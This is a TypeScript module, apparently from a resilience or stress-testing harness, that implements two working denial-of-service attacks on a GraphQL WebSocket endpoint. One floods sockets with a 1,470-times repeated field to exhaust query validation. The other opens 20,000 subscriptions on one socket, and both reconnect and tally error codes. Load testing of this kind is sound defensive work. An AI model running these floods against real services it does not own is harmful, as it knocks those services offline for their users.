/** Attacks over WebSocket (graphql-transport-ws). */
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack, Target } from './types.ts';
import { requestUpload } from './uploads.ts';

/** A field repeated until the document fills one message of 16 KB. Merging 1,470 equal fields compares each pair. */
const REPEATED = `subscription{photo(id:1){${'profile{id}'.repeat(1_470)}}}`;
const SOCKETS = 4;
const MESSAGES_PER_SOCKET = 10;

const SUBSCRIPTIONS = 20_000;

/** ms before a closed or rejected socket is opened again. */
const RECONNECT_MS = 100;

/** Attack 1a: anonymous sockets keep 40 expensive documents in flight. */
export const validateRepeatedFields: Attack = (target, count) =>
  everySocket({ many: SOCKETS, target, count }, (socket) => {
    let id = 0;
    const send = () => subscribe(socket, `${id++}`, REPEATED);
    const onAnswer = (answer: string) => {
      count(answer);
      send();
    };
    for (let sent = 0; sent < MESSAGES_PER_SOCKET; sent++) send();
    return { onAnswer, unanswered: () => MESSAGES_PER_SOCKET };
  });

/** Attack 1b: one signed-in socket opens 20,000 subscriptions to a pending upload. */
export const openManySubscriptions: Attack = async (target, count) => {
  const { photoId } = await requestUpload(target, 'image/jpeg');
  const query = `subscription{photo(id:"${photoId}"){id}}`;
  await everySocket({ many: 1, target, count }, (socket) => {
    const open = new Set<string>();
    for (let id = 0; id < SUBSCRIPTIONS; id++) {
      open.add(`${id}`);
      subscribe(socket, `${id}`, query);
    }
    const onAnswer = (answer: string, id: string) => open.delete(id) && count(answer);
    return { onAnswer, unanswered: () => open.size };
  });
};

interface Traffic {
  onAnswer: (answer: string, id: string) => unknown;
  /** Number of unanswered messages when the socket closes. */
  unanswered: () => number;
}

interface Sockets {
  many: number;
  target: Target;
  count: (answer: string) => void;
}

/** Keeps `many` sockets open until the end of the attack. Each runs `use` once it is acknowledged. */
async function everySocket({ many, target, count }: Sockets, use: (socket: WebSocket) => Traffic) {
  const end = Date.now() + target.seconds * 1_000;
  const keepOpen = async () => {
    while (Date.now() < end) {
      const left = await runSocket(target, end, use);
      for (let lost = 0; lost < left.unanswered; lost++) count(left.reason);
      await delay(RECONNECT_MS);
    }
  };
  await Promise.all(Array.from({ length: many }, keepOpen));
}

async function runSocket(target: Target, end: number, use: (socket: WebSocket) => Traffic) {
  const socket = new WebSocket(`${target.url.replace('http', 'ws')}/graphql`, [
    'graphql-transport-ws',
  ]);
  let traffic: Traffic | undefined;
  socket.addEventListener('open', () => {
    const payload = target.token ? { authorization: `Bearer ${target.token}` } : {};
    socket.send(JSON.stringify({ type: 'connection_init', payload }));
  });
  socket.addEventListener('message', ({ data }) => {
    const { type, id, payload } = JSON.parse(data);
    if (type === 'connection_ack') traffic = use(socket);
    else if (type === 'ping') socket.send(JSON.stringify({ type: 'pong' }));
    else if (type === 'next' || type === 'error') traffic?.onAnswer(codeOf(type, payload), id);
  });
  const closed = new Promise<string>((resolve) => {
    socket.addEventListener('error', () => resolve('refused'));
    socket.addEventListener('close', ({ code }) => resolve(`closed ${code}`));
  });
  const reason = await Promise.race([closed, delay(end - Date.now(), 'unanswered')]);
  socket.close();
  return { reason, unanswered: traffic?.unanswered() ?? 1 };
}

const subscribe = (socket: WebSocket, id: string, query: string) =>
  socket.send(JSON.stringify({ type: 'subscribe', id, payload: { query } }));

function codeOf(type: string, payload: unknown): string {
  const { errors = payload } = (payload ?? {}) as { errors?: unknown };
  const [first] = Array.isArray(errors) ? errors : [];
  return first?.extensions?.code ?? type;
}
